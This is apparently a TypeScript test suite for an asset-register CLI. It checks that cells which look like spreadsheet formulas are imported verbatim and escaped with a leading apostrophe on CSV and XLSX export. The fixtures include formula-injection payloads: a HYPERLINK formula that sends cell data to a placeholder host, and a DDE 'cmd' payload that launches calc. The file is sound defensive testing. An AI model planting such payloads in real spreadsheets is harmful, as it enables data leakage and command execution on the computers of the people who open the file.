import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { sql } from 'kysely';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { CLI_ENGINES, type CliDatabase, assetByTag, counts, runCli, seedReferences, toCsv, withDb } from './support/cli.js';

const HYPERLINK = '=HYPERLINK("http://x/?"&A1)';
/** Values a spreadsheet would evaluate as formulas, by tag and column. */
const FORMULAS = [
  { tag: 'FX-1', name: HYPERLINK, notes: '@SUM(1+1)', serial: '-2+3', order: '+1', cpu: '=1+2' },
  { tag: 'FX-2', name: '-2+3', notes: "=cmd|' /C calc'!A0", serial: '@A1', order: '=A1', cpu: '+cmd' },
  { tag: 'FX-3', name: '@SUM(1+1)', notes: 'plain, with a comma', serial: 'SN-FX-3', order: 'PO-1', cpu: 'i7' },
];
const escaped = (v: string) => (/^[=+\-@\t\r]/.test(v) ? `'${v}` : v);

/** IM-08 (formula-looking cells stored verbatim) and EX-01 (escaped with a leading ' on CSV and XLSX export), plus the round trip. */
describe.each(CLI_ENGINES)('formula cells: import verbatim, export escaped ($name)', (engine) => {
  let database: CliDatabase;
  const file = (name: string) => join(database.dir, name);

  beforeAll(async () => {
    database = await engine.create();
    await seedReferences(database, 5);
    writeFileSync(file('formulas.csv'), toCsv([
      ['Asset Tag', 'Name', 'Type', 'Serial Number', 'Purchase Order', 'attr.cpu', 'Notes', 'attr.ram_gb', 'Purchase Cost', 'Currency'],
      ...FORMULAS.map((f) => [f.tag, f.name, 'laptop', f.serial, f.order, f.cpu, f.notes, '16', '1234.5', 'EUR']),
      // TAB and CR first: the register trims surrounding whitespace of text, the formula after it stays verbatim.
      ['FX-4', '\t=1+1', 'laptop', '\r=2+2', '', '', '\t@x', '', '', ''],
    ]));
  });
  afterAll(async () => { await database?.dispose(); });

  it('IM-08: stores formula-looking cells exactly as written', async () => {
    const r = await runCli(['import', 'assets', file('formulas.csv'), '--no-progress'], database.env);
    expect(r.stderr).toBe('');
    expect(r.stdout).toContain('4 created');
    for (const f of FORMULAS) {
      const a = await assetByTag(database, f.tag);
      expect(a).toMatchObject({ name: f.name, notes: f.notes, serial: f.serial, order_reference: f.order });
      expect(a?.['attributes']).toMatchObject({ cpu: f.cpu, ram_gb: 16 });
    }
    expect(await assetByTag(database, 'FX-4')).toMatchObject({ name: '=1+1', serial: '=2+2', notes: '@x' });
  });

  it('EX-01: the CSV export prefixes every formula-looking text cell with \' and keeps numbers and plain text as they are', async () => {
    const r = await runCli(['export', 'assets', '-o', file('export.csv')], database.env);
    expect(r.code, r.stderr).toBe(0);
    expect(r.stderr).toBe(`Exported 4 assets to ${file('export.csv')}\n`);
    const rows = parse(readFileSync(file('export.csv')), { bom: true, columns: true }) as Record<string, string>[];
    expect(rows).toHaveLength(4);
    for (const f of FORMULAS) {
      const row = rows.find((x) => x['Asset tag'] === f.tag)!;
      expect(row).toMatchObject({ Name: escaped(f.name), Notes: escaped(f.notes), Serial: escaped(f.serial), 'Order reference': escaped(f.order), 'attr.cpu': escaped(f.cpu), 'attr.ram_gb': '16', 'Purchase cost': '1234.50' });
    }
    expect(rows.find((x) => x['Asset tag'] === 'FX-1')!['Name']).toBe(`'${HYPERLINK}`);
    // No exported text cell may start with a formula trigger.
    for (const row of rows) for (const v of Object.values(row)) expect(v).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('re-importing the exported CSV with --mode upsert changes nothing', async () => {
    const before = await counts(database);
    const versions = await withDb(database, (db) => db.selectFrom('assets').select(['tag', 'version', 'name', 'notes']).orderBy('tag').execute());
    const r = await runCli(['import', 'assets', file('export.csv'), '--mode', 'upsert', '--no-progress'], database.env);
    expect(r.stderr).toBe('');
    expect(r.stdout).toBe('Imported 4 rows from export.csv: 0 created, 0 updated, 4 unchanged or already present.\n');
    expect({ ...(await counts(database)), import_runs: before.import_runs }).toEqual(before);
    expect(await withDb(database, (db) => db.selectFrom('assets').select(['tag', 'version', 'name', 'notes']).orderBy('tag').execute())).toEqual(versions);
  });

  it('EX-01: XLSX export holds string cells only (escaped the same way), never a formula; TAB and CR prefixes are escaped too', async () => {
    // Values that start with TAB or CR cannot come through the importer (text is trimmed), so they are put in directly.
    await withDb(database, async (db) => {
      await sql`UPDATE assets SET notes = ${'\t=1+1'}, order_reference = ${'\r=2+2'} WHERE tag = 'FX-4'`.execute(db);
    });
    const x = await runCli(['export', 'assets', '--format', 'xlsx', '-o', file('export.xlsx')], database.env);
    expect(x.code).toBe(0);
    const c = await runCli(['export', 'assets', '-o', file('export2.csv')], database.env);
    expect(c.code).toBe(0);

    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.readFile(file('export.xlsx'));
    const sheet = workbook.worksheets[0]!;
    const header = (sheet.getRow(1).values as unknown[]).slice(1) as string[];
    const cells: Record<string, Record<string, unknown>> = {};
    sheet.eachRow((row, n) => {
      row.eachCell((cell) => {
        expect(cell.formula, `formula in ${cell.address}`).toBeFalsy();
        expect([ExcelJS.ValueType.String, ExcelJS.ValueType.Number], `type of ${cell.address}`).toContain(cell.type);
      });
      if (n === 1) return;
      const values = row.values as unknown[];
      cells[String(values[1])] = Object.fromEntries(header.map((h, i) => [h, values[i + 1]]));
    });
    expect(Object.keys(cells).sort()).toEqual(['FX-1', 'FX-2', 'FX-3', 'FX-4']);
    for (const f of FORMULAS) {
      expect(cells[f.tag]).toMatchObject({ Name: escaped(f.name), Notes: escaped(f.notes), Serial: escaped(f.serial), 'Order reference': escaped(f.order), 'attr.cpu': escaped(f.cpu), 'attr.ram_gb': 16 });
    }
    expect(cells['FX-4']).toMatchObject({ Name: "'=1+1", Serial: "'=2+2", Notes: "'\t=1+1" });
    // exceljs writes the CR raw into the XML, where a reader sees it as LF; the escape is there either way.
    expect(cells['FX-4']!['Order reference']).toMatch(/^'[\r\n]=2\+2$/);

    const csvRows = parse(readFileSync(file('export2.csv')), { bom: true, columns: true }) as Record<string, string>[];
    expect(csvRows.find((r) => r['Asset tag'] === 'FX-4')).toMatchObject({ Notes: "'\t=1+1", 'Order reference': "'\r=2+2" });
  });

  it('re-importing the exported XLSX with --mode upsert changes nothing either (apart from the TAB/CR values trimmed on import)', async () => {
    const before = await counts(database);
    const r = await runCli(['import', 'assets', file('export.xlsx'), '--mode', 'upsert', '--no-progress'], database.env);
    expect(r.stderr).toBe('');
    expect(r.stdout).toBe('Imported 4 rows from export.xlsx: 0 created, 1 updated, 3 unchanged or already present.\n');
    expect((await counts(database)).assets).toBe(before.assets);
    for (const f of FORMULAS) expect(await assetByTag(database, f.tag)).toMatchObject({ name: f.name, notes: f.notes, serial: f.serial, order_reference: f.order, version: 1 });
    expect(await assetByTag(database, 'FX-4')).toMatchObject({ notes: '=1+1', version: 2 });
  });
});
